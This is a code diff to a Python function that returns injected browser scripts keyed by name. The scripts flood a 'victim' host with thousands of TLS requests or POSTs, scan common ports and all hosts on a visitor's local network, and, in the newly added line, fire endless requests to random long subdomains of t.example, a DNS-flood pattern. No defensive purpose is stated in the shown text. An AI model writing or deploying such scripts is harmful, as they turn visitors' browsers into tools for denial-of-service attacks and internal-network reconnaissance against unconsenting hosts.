@@ -83,6 +83,7 @@ def page(name, victim, lan):
         "flood-tls": lambda: scripted(CODE + f"(async () => {{ for (let n = 0; n < 4000; n++) {{ fetch('https://{victim}/?' + n, no).catch(() => 0); if (n % 4 == 0) await wait(4); }} }})()"),
         "flood-posts": lambda: scripted(CODE + f"(async () => {{ for (let n = 0; n < 2000; n++) {{ fetch('http://{victim}/search', {{...no, method: 'POST', body: 'q=' + n}}).catch(() => 0); if (n % 4 == 0) await wait(8); }} }})()"),
         "lan-ports": lambda: scripted(CODE + f"(async () => {{ for (const p of [80, 81, 88, 443, 631, 3000, 3306, 5000, 5432, 5900, 6379, 7001, 8000, 8008, 8080, 8081, 8086, 8123, 8443, 8888, 9000, 9090, 9100, 9200, 9443, 11211, 27017, 32400, 49152, 50000]) {{ fetch('http://{lan}.10:' + p + '/', no).catch(() => 0); try {{ new WebSocket('ws://{lan}.10:' + p); }} catch {{}} await wait(100); }} }})()"),
+        "names": lambda: scripted(CODE + "(async () => { const w = n => Array.from({length: n}, () => 'abcdefghijklmnopqrstuvwxyz234567'[Math.random() * 32 | 0]).join(''); for (;;) { new Image().src = 'http://' + w(50) + '.' + w(50) + '.t.example/'; await wait(20); } })()"),
         "lan-hosts": lambda: scripted(CODE + f"(async () => {{ for (let h = 1; h < 255; h++) {{ fetch('http://{lan}.' + h + '/', no).catch(() => 0); await wait(40); }} }})()"),
     }
     return pages[name]() if name in pages else None
